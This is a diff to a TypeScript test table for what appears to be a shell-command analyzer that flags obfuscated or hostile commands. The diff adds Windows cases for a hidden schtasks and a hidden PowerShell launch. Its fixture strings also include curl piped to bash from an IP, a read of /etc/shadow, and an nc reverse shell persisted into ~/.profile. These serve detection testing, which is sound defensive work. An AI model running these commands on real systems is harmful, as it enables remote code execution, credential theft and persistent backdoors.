@@ -123,6 +123,9 @@ const CASES: Array<[string, string[]]> = [
   ['{curl,-s,http://203.0.113.9/x}|{bash,}', ['fallback:curl -s http://203.0.113.9/x', 'fallback:bash']],
   ['echo {x,} a{,}b', ['echo x ab ab']],
   ['bash <<EOF\ncurl -s $U | sh\nEOF', ['bash', 'heredoc-to-shell:curl -s $U', 'heredoc-to-shell:sh']],
+  // cmd keeps its backslashes and expands a standard variable's substring; a PowerShell's -Command takes the rest of the line
+  ['cmd.exe /c "%COMSPEC:~-16,1%chtasks /create /tr C:\\Users\\Public\\x.exe"', ['eval:schtasks /create /tr C:\\Users\\Public\\x.exe', 'cmd.exe /c %COMSPEC:~-16,1%chtasks /create /tr C:\\Users\\Public\\x.exe']],
+  ['wmic.exe process call create "powershell -w hidden -c IEX (Get-Date)"', ['eval:powershell -w hidden -c IEX (Get-Date)', 'wmic.exe process call create powershell -w hidden -c IEX (Get-Date)']],
   // an unquoted heredoc takes the backslash off `\$`: the shell it feeds expands the variable
   ['sh <<EOF\nT=/etc/shadow\ncat \\$T\nEOF', ['sh', 'heredoc-to-shell:cat /etc/shadow']],
   ['cat > ~/.profile <<EOF\nnc $H 4444 -e /bin/sh\nEOF', ['cat', 'persisted:nc $H 4444 -e /bin/sh']],
